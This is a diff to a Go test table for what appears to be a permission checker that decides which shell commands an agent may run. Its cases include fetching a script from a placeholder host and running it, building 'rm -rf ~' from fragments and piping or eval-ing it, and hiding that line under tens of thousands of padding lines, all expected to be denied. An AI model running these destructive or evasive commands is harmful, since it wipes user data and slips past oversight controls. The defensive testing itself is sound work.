@@ -53,7 +53,7 @@ func TestWrittenFilesAsTheyLie(t *testing.T) {
 		"settings of its own":           {write("smoke.sh", "#!/bin/sh\n. ./.env\ncurl -fsS -H \"Authorization: Bearer $TOKEN\" \"$API/health\"\n"), bash("sh smoke.sh", ""), bash("bash -n smoke.sh", "")},
 		"brought, and harmless":         {changes("curl -so f.sh https://x.example/f", "f.sh", "echo fine\n"), bash("sh f.sh", "deny")},
 		"brought, and added to":         {changes("curl -so g.sh https://x.example/f", "g.sh", "echo fine\n"), changes("echo date >> g.sh", "g.sh", "echo fine\ndate\n"), bash("sh g.sh", "deny")},
-		"not the session's":             {bash("sh theirs.sh", "")},
+		"not the session's":             {bash("sh theirs.sh", "deny"), bash("cat theirs.sh", "")}, // what asks when it is typed asks so, too
 		"pieces that are fed":           {changes("printf 'rm -r' > q", "q", "rm -r"), changes("printf 'f ~' >> q", "q", "rm -rf ~"), bash("cat q | sh", "deny"), bash("sh < q", "deny"), bash(`eval "$(cat q)"`, "deny"), bash("cat q", "")},
 		"in another folder":             {changes("mkdir below; printf 'rm -r' > below/q", "q", "date\n"), changes("printf 'f ~' >> below/q", "below/q", "rm -rf ~"), bash("cd below && sh q", "deny")},
 		"long pieces":                   {changes("yes '# x' | head -90000 > l.sh", "l.sh", strings.Repeat("# nothing at all\n", 20_000)), changes("cat t >> l.sh", "l.sh", strings.Repeat("# nothing at all\n", 20_000)+"rm -rf ~\n"), bash("sh l.sh", "deny")},
